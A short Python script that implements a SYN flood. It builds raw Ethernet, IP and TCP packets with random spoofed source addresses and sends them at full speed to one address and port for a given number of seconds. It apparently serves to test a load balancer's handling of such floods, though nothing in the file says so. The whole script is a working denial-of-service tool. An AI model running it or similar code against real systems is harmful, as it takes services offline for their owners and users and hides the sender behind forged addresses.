"""SYN flood: sends SYNs to one address and port from random source addresses, as fast as this script can.

Usage: syn_flood.py INTERFACE VIP PORT SECONDS. Prints the number of sent packets.
"""
import random
import socket
import struct
import sys
import time

interface, vip, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def resolve(address):
    """Returns its MAC address, after sending a datagram that triggers ARP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.sendto(b"?", (address, 9))
    for _ in range(100):
        with open("/proc/net/arp") as table:
            for line in table:
                fields = line.split()
                if fields[0] == address and fields[3] != "00:00:00:00:00:00":
                    return bytes.fromhex(fields[3].replace(":", ""))
        time.sleep(0.05)
    sys.exit(f"no ARP reply for {address}")


own = bytes.fromhex(open(f"/sys/class/net/{interface}/address").read().strip().replace(":", ""))
ethernet = resolve(vip) + own + b"\x08\x00"
destination = socket.inet_aton(vip)


def packet():
    source = struct.pack("!I", random.randrange(0x0B000000, 0x0BFFFFFF))
    header = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0) + source + destination
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    ports = random.randrange(1024, 65536), port
    tcp = struct.pack("!HHIIBBHHH", *ports, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return ethernet + header + tcp


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
sent, end = 0, time.monotonic() + seconds
while time.monotonic() < end:
    for _ in range(100):
        try:
            wire.send(packet())
            sent += 1
        except OSError:
            time.sleep(0.001)
print("sent", sent, flush=True)
